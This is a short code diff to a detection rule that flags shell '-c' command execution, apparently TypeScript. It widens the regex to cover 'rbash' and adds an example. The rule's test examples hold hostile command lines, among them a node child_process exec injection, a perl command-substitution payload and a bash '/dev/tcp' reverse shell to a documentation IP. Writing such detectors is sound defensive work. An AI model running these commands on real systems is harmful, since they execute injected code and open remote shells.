@@ -104,7 +104,7 @@ export const rule: Rule = {
     'https://attack.mitre.org/techniques/T1059/004/ and https://pubs.opengroup.org/onlinepubs/9799919799/utilities/sh.html',
   match: [
     {
-      re: /(?<![\w.-])(?:ba|z|k|da|a|pdk|mk|c|tc|fi)?sh\s+(?:-[a-zA-Z]{1,6}\s+|--\w[\w-]*\s+|-o\s+\w+\s+)*-[a-zA-Z]{0,5}c[a-zA-Z]{0,2}\s+["'`$\\\w(&]/,
+      re: /(?<![\w.-])(?:r?ba|z|k|da|a|pdk|mk|c|tc|fi)?sh\s+(?:-[a-zA-Z]{1,6}\s+|--\w[\w-]*\s+|-o\s+\w+\s+)*-[a-zA-Z]{0,5}c[a-zA-Z]{0,2}\s+["'`$\\\w(&]/,
       accept: (candidate) =>
         isFilledIn(candidate) &&
         !isProse(candidate) &&
@@ -160,6 +160,7 @@ export const rule: Rule = {
   ],
   examples: {
     fires: [
+      'rbash -c "id"',
       "node -e \"{{require('child_process').exec('id')}}\"",
       "perl -p -i -e 's/a/`id`/e' file",
       "bash -c '</dev/tcp/203.0.113.7/4444 sh'",
